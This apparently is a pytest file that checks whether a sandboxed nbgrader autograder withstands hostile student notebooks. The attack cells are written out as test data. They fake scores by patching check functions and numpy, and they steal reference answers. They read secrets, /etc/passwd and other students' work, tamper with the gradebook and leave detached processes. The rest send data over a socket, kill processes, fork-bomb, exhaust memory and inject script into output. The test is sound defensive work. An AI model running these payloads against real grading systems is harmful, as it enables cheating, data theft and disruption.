"""Hostile submissions, graded the way the instructors page says: `nbgrader autograde a1_forward` with the course's
configuration, every student in one run.

Each attacker tries one way to get points it has not earned, read what it must not, change what is not its own,
or stop the batch; the four categories are those of the trusted-grading issue. Every submission must score
exactly what its real code deserves (a1_forward: rnn_step_forward 4 points, rnn_forward 6), every student must
be graded, no file outside the attacker's folder may change, no secret may reach a notebook or feedback page,
nothing may cross the network, and no process of a sandbox may outlive the run.
"""
import glob
import hashlib
import json
import os
import socket
import threading

import nbformat
import pytest

from grading_helpers import ROOT, cli_course, copy_nb, find_cell, first_answer_only, read_csv, solution_path, solved

pytestmark = pytest.mark.grading

NAME = "a1_forward"


def add_cell(nb, after, source):
    """Insert an ordinary (ungraded) code cell after the cell with grade_id `after`."""
    i, _ = find_cell(nb, after)
    cell = nbformat.v4.new_code_cell(source)
    nb.cells.insert(i + 1, cell)
    return nb


def with_source(nb, grade_id, source):
    _, c = find_cell(nb, grade_id)
    c.source = source
    return nb


def attacks(release, solution, course, port):
    """{student: (notebook, expected auto score)}."""
    full = lambda: solved(release, solution)                      # noqa: E731
    half = lambda: first_answer_only(release, solution)           # noqa: E731
    none = lambda: copy_nb(release)                               # noqa: E731
    secret = os.path.join(course, ".grader", "secret")
    gradebook = os.path.join(course, "gradebook.db")
    other = os.path.join(course, "submitted", "honest", NAME, NAME + ".ipynb")
    z = {"honest": (full(), 10), "honest_half": (half(), 4)}

    # 1. the score decided inside the student's process -----------------------------------------------------------
    z["c1_patch_checks"] = (add_cell(none(), "setup", (
        "import rnn_ref.checks as ch\n"
        "ch.check_rnn_step_forward = ch.check_rnn_forward = ch.check_own_work = lambda *a, **k: None\n")), 0)
    z["c1_fake_module"] = (add_cell(none(), "setup", (
        "import sys, types\n"
        "fake = types.ModuleType('rnn_ref.checks')\n"
        "fake.__getattr__ = lambda name: (lambda *a, **k: None)\n"
        "sys.modules['rnn_ref.checks'] = fake\n"
        "import rnn_ref\nrnn_ref.checks = fake\n")), 0)
    z["c1_patch_numpy"] = (add_cell(none(), "setup", (
        "import numpy as np\n"
        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
        "np.abs = lambda x: 0 * x\nnp.max = lambda *a, **k: 0.0\n")), 0)
    z["c1_ipython"] = (add_cell(none(), "setup", (
        "ip = get_ipython()\n"
        "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
        "ip.displayhook(10)\n")), 0)
    z["c1_print_points"] = (add_cell(none(), "test_rnn_forward", "print(10)\n10\n"), 0)

    # 2. the reference one import away ------------------------------------------------------------------------------
    z["c2_alias"] = (with_source(half(), "rnn_forward", "import rnn_ref\nrnn_forward = rnn_ref.rnn_forward\n"), 4)
    z["c2_getattr_partial"] = (with_source(half(), "rnn_forward", (
        "import functools, rnn_ref\n"
        "rnn_forward = functools.partial(getattr(rnn_ref, 'rnn_' + 'forward'))\n")), 4)
    z["c2_other_function"] = (with_source(half(), "rnn_forward", (
        "import rnn_ref\n"
        "def rnn_forward(x, h0, U_xh, W_hh, b):\n"
        "    return rnn_ref.stacked_rnn_forward(x, h0[None], [(U_xh, W_hh, b)])\n")), 4)
    z["c2_source"] = (with_source(half(), "rnn_forward", (
        "import glob, inspect, sys\n"
        "import rnn_ref\n"
        "src = ''\n"
        "try:\n    src = inspect.getsource(rnn_ref)\nexcept Exception:\n    pass\n"
        f"for path in glob.glob({os.path.join(ROOT, 'rnn_ref', '**', '*.py')!r}, recursive=True) + "
        "glob.glob(sys.prefix + '/lib/python3*/site-packages/rnn_ref/**/*.py', recursive=True):\n"
        "    src += open(path).read()\n"
        "exec(src)\n")), 4)
    z["c2_stack_walk"] = (with_source(half(), "rnn_forward", (
        "import sys\n"
        "def rnn_forward(x, h0, U_xh, W_hh, b):\n"
        "    f = sys._getframe(1)\n"
        "    while f is not None:\n"
        "        for v in f.f_locals.values():\n"
        "            if type(v).__name__ == 'Case':\n"
        "                return v.ref\n"
        "        f = f.f_back\n"
        "    return None\n")), 4)

    # 3. the course in view -----------------------------------------------------------------------------------------
    z["c3_read"] = (add_cell(half(), "test_rnn_forward", (
        "import glob, os\n"
        f"for path in [{secret!r}, {gradebook!r}, {other!r}, "
        f"{os.path.join(ROOT, 'solutions', NAME, NAME + '.ipynb')!r}, '../../../.grader/secret', '/etc/passwd']:\n"
        "    try:\n        print(path, open(path, 'rb').read()[:2000])\n"
        "    except Exception as e:\n        print(path, type(e).__name__)\n"
        f"print(glob.glob({course!r} + '/**', recursive=True)[:50], os.getcwd(), os.listdir('.'))\n")), 4)
    z["c3_write"] = (add_cell(half(), "test_rnn_forward", (
        "import os, sqlite3\n"
        f"for path in [{gradebook!r}, {other!r}, {os.path.join(course, 'nbgrader_config.py')!r}, "
        f"{os.path.join(ROOT, 'rnn_ref', 'checks', '__init__.py')!r}, {os.path.join(ROOT, 'grading', 'trusted.py')!r}]:\n"
        "    try:\n        open(path, 'a').write('\\nimport os; os.system(\"touch /tmp/pwned\")\\n')\n"
        "    except Exception as e:\n        print(path, type(e).__name__)\n"
        "try:\n"
        f"    db = sqlite3.connect({gradebook!r}); db.execute('update grade set auto_score = 99'); db.commit()\n"
        "except Exception as e:\n    print('gradebook', type(e).__name__)\n"
        "if os.fork() == 0:\n"                                   # a detached process that waits for grading to end
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        import time; time.sleep(20)\n"
        f"        open({other!r}, 'w').write('overwritten later')\n"
        "    os._exit(0)\n")), 4)
    z["c3_network"] = (add_cell(half(), "test_rnn_forward", (
        "import socket\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2); s.sendall(b'leak'); print('sent')\n"
        "except Exception as e:\n    print(type(e).__name__, e)\n")), 4)
    z["c3_shadow_files"] = (full(), 10)   # rnn_ref.py, numpy.py and a .so handed in beside the notebook

    # 4. stopping or stalling the batch -----------------------------------------------------------------------------
    z["c4_kill"] = (add_cell(full(), "test_rnn_step_forward", (
        "import os, signal\n"
        "for pid in (os.getppid(), 1, -1):\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except Exception as e:\n        print(pid, type(e).__name__)\n"
        "os.kill(os.getpid(), signal.SIGKILL)\n")), 4)        # kill(-1) spares the caller: then itself
    nb = full()
    for _ in range(4):
        nb = add_cell(nb, "test_rnn_step_forward", "while True:\n    pass\n")
    z["c4_loops"] = (nb, 4)   # each loop costs a cell timeout until the notebook's budget runs out
    z["c4_flood"] = (add_cell(full(), "test_rnn_forward", "print('x' * 150_000_000)\n"), 10)
    z["c4_fork_bomb"] = (add_cell(full(), "test_rnn_forward", (
        "import os\n"
        "try:\n    while True:\n        if os.fork() == 0:\n            import time; time.sleep(30)\n"
        "except Exception as e:\n    print(type(e).__name__)\n")), 10)
    z["c4_memory"] = (add_cell(full(), "test_rnn_forward", "big = bytearray(20 * 2**30)\n"), 10)
    z["c4_lock_gradebook"] = (add_cell(full(), "setup", (
        "import sqlite3\n"
        "try:\n"
        f"    db = sqlite3.connect({gradebook!r}, isolation_level=None); db.execute('BEGIN EXCLUSIVE')\n"
        "except Exception as e:\n    print(type(e).__name__)\n")), 10)
    z["c4_html"] = (add_cell(full(), "test_rnn_forward", (
        "print('<script>alert(\"owned\")</script><img src=x onerror=alert(1)>')\n")), 10)
    return z


def _hashes(paths):
    out = {}
    for top in paths:
        for path in sorted(glob.glob(os.path.join(top, "**"), recursive=True)) if os.path.isdir(top) else [top]:
            if os.path.isfile(path) and "__pycache__" not in path:
                with open(path, "rb") as f:
                    out[path] = hashlib.sha256(f.read()).hexdigest()
    return out


def _sandbox_processes(course):
    """The processes still running in this course's sandboxes (other tests' sandboxes carry other tags)."""
    from grading.secret import course_tag
    mark = f"GRADER_TAG={course_tag(course)}".encode()
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if mark in f.read().split(b"\0"):
                    found.append(pid)
        except OSError:
            pass
    return found


class _Listener:
    """A TCP server on 127.0.0.1 that records every connection (for at most `seconds`)."""

    def __init__(self, seconds=120):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port, self.seen, self.stop = self.sock.getsockname()[1], [], threading.Event()
        self.thread = threading.Thread(target=self._run, args=(seconds,), daemon=True)
        self.thread.start()

    def _run(self, seconds):
        for _ in range(int(seconds / 0.5)):
            if self.stop.is_set():
                break
            try:
                conn, _ = self.sock.accept()
                self.seen.append(conn.recv(100))
                conn.close()
            except socket.timeout:
                pass
        self.sock.close()

    def close(self):
        self.stop.set()
        self.thread.join()


def test_hostile_submissions_score_what_their_code_deserves(tmp_path):
    course, run = cli_course(tmp_path / "course", extra=(
        "c.SandboxedExecute.timeout = 3\n"          # a cell or call may take 3 s, the notebook 10 s (60/300 in the course)
        "c.SandboxedExecute.notebook_timeout = 10\n"))
    run("nbgrader", "generate_assignment", NAME, "--force")
    from grading.secret import course_secret
    secret = course_secret(course)
    release = nbformat.read(os.path.join(course, "release", NAME, NAME + ".ipynb"), as_version=4)
    solution = nbformat.read(solution_path(NAME), as_version=4)
    listener = _Listener()
    try:
        zoo = attacks(release, solution, course, listener.port)
        for student, (nb, _) in zoo.items():
            path = os.path.join(course, "submitted", student, NAME, NAME + ".ipynb")
            os.makedirs(os.path.dirname(path))
            nbformat.write(nb, path)
        shadow = os.path.join(course, "submitted", "c3_shadow_files", NAME)
        for fname, text in [("rnn_ref.py", "raise SystemExit('shadowed')\n"), ("numpy.py", "raise SystemExit(1)\n"),
                            ("rnn_ref.cpython-311-x86_64-linux-gnu.so", "not really a library")]:
            with open(os.path.join(shadow, fname), "w") as f:
                f.write(text)

        watched = [os.path.join(course, d) for d in ("submitted", "release", "source", ".grader", "nbgrader_config.py")]
        watched += [os.path.join(ROOT, d) for d in ("rnn_ref", "grading", "solutions", "nbgrader_config.py")]
        before = _hashes(watched)
        result = run("nbgrader", "autograde", NAME, check=False)
        log = result.stdout + result.stderr
        assert result.returncode == 0, log
        run("nbgrader", "generate_feedback", NAME)
        run("nbgrader", "export", "--to", "grades.csv")
    finally:
        listener.close()

    # every student graded, each exactly as its code deserves
    rows = {r["student_id"]: float(r["score"]) for r in read_csv(os.path.join(course, "grades.csv"))}
    assert rows == {s: float(score) for s, (_, score) in zoo.items()}, log
    # nothing outside the attackers' folders changed, nothing crossed the network, nothing outlived the run
    assert _hashes(watched) == before
    assert listener.seen == []
    assert _sandbox_processes(course) == []
    assert not os.path.exists("/tmp/pwned")
    # no secret in any notebook or feedback page; output capped; student HTML escaped
    solution_text = "### BEGIN SOLUTION"     # only in the solution notebook: a submission never has it
    for path in glob.glob(os.path.join(course, "autograded", "*", NAME, "*.ipynb")) + \
            glob.glob(os.path.join(course, "feedback", "*", NAME, "*.html")):
        text = open(path, encoding="utf-8").read()
        assert secret not in text, path
        assert solution_text not in text, path
        honest = path.replace(os.sep + path.split(os.sep)[-3] + os.sep, os.sep + "honest" + os.sep)
        assert os.path.getsize(path) < os.path.getsize(honest) + 200_000, path   # output capped
        if path.endswith(".html"):
            assert "<script>alert(" not in text and "<img src=x" not in text, path
            assert "BEGIN HIDDEN TESTS" not in text and "hidden=True" not in text, path
    read = json.dumps(nbformat.read(os.path.join(course, "autograded", "c3_read", NAME, NAME + ".ipynb"), 4).cells)
    assert "FileNotFoundError" in read and "root:x:0" not in read
    # one log line naming each student whose notebook the grader had to stop
    for student, words in [("c4_loops", "ran out of its time budget"), ("c4_kill", "the sandbox was stopped"),
                           ("c4_flood", "characters more than the 20,000 kept")]:
        assert any(f"student '{student}'" in line and words in line for line in log.splitlines()), (student, log)
